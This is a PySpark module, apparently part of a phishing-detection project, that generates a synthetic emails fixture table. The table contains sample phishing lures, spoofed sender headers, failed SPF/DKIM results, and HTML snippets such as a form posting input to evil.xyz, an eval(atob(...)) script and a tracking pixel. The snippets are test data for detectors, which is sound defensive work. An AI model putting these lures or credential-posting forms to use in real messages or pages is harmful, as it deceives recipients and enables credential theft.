"""Derived tables built deterministically from the driver tables.

The driver tables hold no phishing content, so the email operators run on an
``emails`` table derived from ``documents`` and ``pages`` by fixed rules on
``doc_id`` (see FIXTURES.md §3).  Unlike FIXTURES.md, the body keeps the
document's whole text, so every operator reads whole texts.  Each rule is
a column expression; the join to ``pages`` is an equi-join on a computed key.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from baitscope.session import table

c = F.col

# FIXED VALUES: fixture strings, selected by doc_id modulo the list length.
SUBJECTS = ["Account suspended", "Your order", "Invoice due", "FINAL NOTICE ACT NOW",
            "Weekly news", "Congratulations", "Team lunch", ""]
TAILS = [
    "Dear customer, verify now at http://paypa1.com/verify to avoid suspension.",
    "paypal: verify now, enter your password at https://my-shop.weebly.com/login",
    "The director of the sector met the groups first.",
    "IRS notice!!! Send your OTP within 24 hours: http://192.168.4.12/login",
    "See https://bit.ly/3abc and www.example.com.",
    "Kindly revert and do the needful.",
    "haga clic en el enlace http://evil.xyz/cuenta",
    "claim your prize: http://user@evil.xyz/a",
    "GIFT CARD FOR YOU NOW",
    "", "", "",
]
INJECTIONS = [
    '<div style="display:none">x</div>',
    '<iframe src="http://a.example/f"></iframe>',
    '<form action="http://evil.xyz/post"><input name="p"></form>',
    '<script>eval(atob("x"))</script>',
    '<img width="1" height="1" src="http://t.example/p.gif">',
    '<a href="https://docs.google.com/forms/x">form</a>',
]
FROM_HEADERS = ["PayPal Support <help@paypa1.com>", "PayPal <service@paypal.com>",
                "Alice <alice@example.com>", "bob@example.org",
                "Microsoft Team <no-reply@evil.xyz>", "Security Desk <sec@example.com>", ""]
REPLY_TO = ["x@evil.xyz", "alice@example.com", None, None, None]
AUTH = ["mx; spf=fail; dkim=fail; dmarc=fail", "mx; spf=pass; dkim=pass; dmarc=pass",
        "mx; spf=softfail; dkim=none", "mx; SPF = neutral; dmarc=bogus", None, None]
MAILERS = ["PHPMailer 6.0", "Outlook"] + [None] * 8
DATE_VALUE = "Mon, 1 Jan 2024 00:00:00 +0000"
PHISH_TAILS = [0, 1, 3, 6, 7]


def _pick(values, key):
    """``values[key % len(values)]`` as a CASE over literals."""
    expr = None
    for i, v in enumerate(values):
        lit = F.lit(v) if v is not None else F.lit(None).cast("string")
        cond = (key % len(values)) == i
        expr = F.when(cond, lit) if expr is None else expr.when(cond, lit)
    return expr


def received_at(key) -> F.Column:
    """Fixture time: 2024-01-01 and a minute for each id, over a century."""
    minute = F.pmod(key, F.lit(100 * 365 * 1440)).cast("int")
    return F.lit("2024-01-01 00:00:00").cast("timestamp_ntz") + F.make_dt_interval(mins=minute)


def emails(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One email per document; page HTML joined on ``doc_id % n_pages``."""
    docs = table(spark, sf_dir, "documents").select("doc_id", "text", "source")
    pages = table(spark, sf_dir, "pages").select("page_id", "html")
    n_pages = pages.select((F.max("page_id") + 1).alias("n")).scalar()
    d = c("doc_id")
    m9 = d % 9
    joined = docs.join(pages, (d % n_pages) == c("page_id"), "left")
    html = (F.when(m9 <= 5, F.concat(F.coalesce(c("html"), F.lit("")), _pick(INJECTIONS, d % 9 % 6)))
            .when(m9 == 6, F.coalesce(c("html"), F.lit(""))).otherwise(F.lit("")))
    is_phish_tail = (d % 12).isin(PHISH_TAILS)
    label = F.when(is_phish_tail != ((d % 17) == 0), 1).otherwise(0)
    return joined.select(
        d.alias("email_id"),
        _pick(SUBJECTS, d).alias("subject"),
        F.concat(F.coalesce(c("text"), F.lit("")), F.lit(" "), _pick(TAILS, d)).alias("body_text"),
        html.alias("body_html"),
        _pick(FROM_HEADERS, d).alias("from_hdr"),
        _pick(REPLY_TO, d).alias("reply_to"),
        _pick(AUTH, d).alias("auth_results"),
        _pick(MAILERS, d).alias("x_mailer"),
        F.when(d % 11 == 0, F.lit(None).cast("string"))
        .otherwise(F.concat(F.lit("<"), d.cast("string"), F.lit("@mail>"))).alias("message_id"),
        F.when(d % 13 == 0, F.lit(None).cast("string")).otherwise(F.lit(DATE_VALUE)).alias("date_hdr"),
        (d % 11).cast("int").alias("received_hops"),
        label.cast("int").alias("label"),
        c("source"),
        received_at(d).alias("received_at"),
    )
